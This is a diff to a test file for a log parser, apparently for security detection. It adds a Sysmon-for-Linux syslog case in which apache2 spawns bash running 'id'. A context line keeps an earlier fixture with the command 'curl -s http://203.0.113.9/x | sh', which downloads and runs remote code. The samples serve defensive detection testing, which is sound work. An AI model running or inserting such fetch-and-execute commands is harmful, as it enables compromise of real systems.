@@ -147,6 +147,15 @@ test.each<[what: string, text: string, logsource: Logsource, fields: Fields]>([
     { CommandLine: 'curl -s http://203.0.113.9/x | sh', User: 'www-data' },
   ],
   [
+    'Sysmon for Linux writes its events to syslog',
+    'Mar  2 08:00:00 web1 sysmon: <Event><System><EventID>1</EventID></System><EventData><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c &quot;id&quot;</Data><Data Name="ParentImage">/usr/sbin/apache2</Data><Data Name="ParentCommandLine">-</Data></EventData></Event>\n',
+    { product: 'linux', category: 'process_creation' },
+    {
+      ...{ Image: '/usr/bin/bash', CommandLine: 'bash -c "id"', ParentImage: '/usr/sbin/apache2' },
+      ParentCommandLine: undefined,
+    },
+  ],
+  [
     'a lease of Windows DHCP',
     'ID,Date,Time,Description,IP Address,Host Name,MAC Address\n10,03/02/26,08:00:00,Assign,10.0.0.1,WS07,00155D010203\n',
     { product: 'windows', service: 'dhcp' },
